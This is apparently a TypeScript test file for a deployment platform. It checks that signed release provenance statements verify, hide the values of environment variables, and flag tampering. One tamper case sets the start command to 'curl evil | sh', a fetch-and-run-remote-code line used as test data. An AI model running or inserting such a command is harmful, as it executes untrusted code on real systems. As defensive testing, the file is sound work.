import assert from "node:assert/strict";
import { createHash, randomUUID } from "node:crypto";
import { test, type TestContext } from "node:test";
import { verifyEnvelope, type Envelope } from "@platform/bundle";
import { createPublicKey } from "node:crypto";
import { PlatformError } from "@platform/contract";
import { deploymentHandlers } from "../deployments/index.ts";
import { startTestApi, type TestApi } from "../testing-api.ts";
import type { Plan } from "./detect/index.ts";
import { assertProvenance, attest } from "./provenance.ts";
import { loadBuild, loadRelease } from "./store.ts";

const plan = {
  kind: "dynamic",
  root: "/workspace",
  install: "npm ci",
  build: null,
  start: "node server.js",
  port: 3000,
  healthCheckPath: "/health",
  requiredEnv: [],
  because: [],
} as unknown as Plan;

interface Built {
  readonly api: TestApi;
  readonly deploymentId: string;
  readonly releaseId: string;
  report(): Promise<Record<string, unknown>>;
  tamper(set: string): Promise<void>;
}

/** A release as a build leaves it, without the build. */
async function builtRelease(t: TestContext): Promise<Built> {
  const api = await startTestApi(t, { handlers: (platform) => deploymentHandlers(platform) });
  const { pool } = api.platform;
  const made = await api.call("POST", "/deployments", { body: { name: "clinic" } });
  const deploymentId = (made.body["data"] as { id: string }).id;
  const [versionId, releaseId, buildId] = [randomUUID(), randomUUID(), randomUUID()];
  const sha256 = "ab".repeat(32);
  await pool.query(
    "insert into versions (id, deployment_id, version_number, kind) values ($1, $2, 1, 'dynamic')",
    [versionId, deploymentId],
  );
  await pool.query(
    `insert into builds (id, tenant_id, deployment_id, version_id, release_id, request, actor, bundle_digest)
     values ($1, $2, $3, $4, $5, '{}', '{"key_id": "key-1"}', $6)`,
    [buildId, api.tenantId, deploymentId, versionId, releaseId, `sha256:${sha256}`],
  );
  const attestation = await attest(api.platform, {
    row: (await loadBuild(pool, buildId))!,
    plan,
    sourceDigest: `sha256:${"cd".repeat(32)}`,
    sbomDigest: null,
    env: { DATABASE_URL: "postgres://secret" },
    startedAt: new Date(1000),
    finishedAt: new Date(2000),
  });
  await pool.query(
    `insert into releases (id, deployment_id, deployment_version_id, kind, state, artifact_sha256, start_command, port, health_check_path, attestation)
     values ($1, $2, $3, 'oci', 'ready', $4, 'node server.js', 3000, '/health', $5)`,
    [releaseId, deploymentId, versionId, sha256, JSON.stringify(attestation)],
  );
  return {
    api,
    deploymentId,
    releaseId,
    report: async () =>
      (await api.call("GET", `/deployments/${deploymentId}/releases/${releaseId}/provenance`)).body[
        "data"
      ] as Record<string, unknown>,
    tamper: async (set) => {
      await pool.query(`update releases set ${set} where id = $1`, [releaseId]);
    },
  };
}

test("a release carries a statement that anybody can verify, and no value of a variable", async (t) => {
  const { report } = await builtRelease(t);
  const found = await report();
  assert.equal(found["verified"], true);
  const statement = verifyEnvelope(
    found["envelope"] as Envelope,
    createPublicKey(found["public_key"] as string),
  );
  assert.equal(statement.subject[0]!.digest.sha256, "ab".repeat(32));
  assert.equal(statement.predicate.buildDefinition.externalParameters.env[0]!.name, "DATABASE_URL");
  assert.doesNotMatch(JSON.stringify(found), /postgres:\/\/secret/);
  // Who reads the statement cannot try values: what they would need besides is the installation's key.
  const { valueSha256 } = statement.predicate.buildDefinition.externalParameters.env[0]!;
  const invocation = statement.predicate.runDetails.metadata.invocationId!.replace("urn:uuid:", "");
  for (const text of ["postgres://secret", `${invocation}\0postgres://secret`])
    assert.notEqual(valueSha256, createHash("sha256").update(text).digest("hex"));
});

for (const [what, set] of [
  ["digest", `artifact_sha256 = repeat('0', 64)`],
  ["start_command", "start_command = 'curl evil | sh'"],
  ["port", "port = 22"],
  ["health_check_path", "health_check_path = '/'"],
  ["sbom", `metadata = '{"sbom_digest": "sha256:00"}'`],
] as const) {
  test(`a release whose ${what} was changed after it was signed is not started, and the answer names it`, async (t) => {
    const { api, releaseId, report, tamper } = await builtRelease(t);
    const load = async () => (await loadRelease(api.platform.pool, releaseId))!;
    await assertProvenance(api.platform, await load());
    await tamper(set);
    const found = await report();
    assert.equal(found["verified"], false);
    assert.deepEqual(
      (found["differs"] as { what: string }[]).map((one) => one.what),
      [what],
    );
    await assert.rejects(
      assertProvenance(api.platform, await load()),
      (error: unknown) => error instanceof PlatformError && error.code === "PROVENANCE_INVALID",
    );
  });
}

test("a statement that another installation signed is not believed", async (t) => {
  const [mine, theirs] = [await builtRelease(t), await builtRelease(t)];
  const foreign = (await theirs.report())["envelope"];
  await mine.api.platform.pool.query("update releases set attestation = $2 where id = $1", [
    mine.releaseId,
    JSON.stringify(foreign),
  ]);
  const found = await mine.report();
  assert.equal(found["verified"], false);
  assert.match(String(found["reason"]), /No key of this installation/);
  await mine.tamper("attestation = null");
  assert.match(String((await mine.report())["reason"]), /no signed statement/);
});
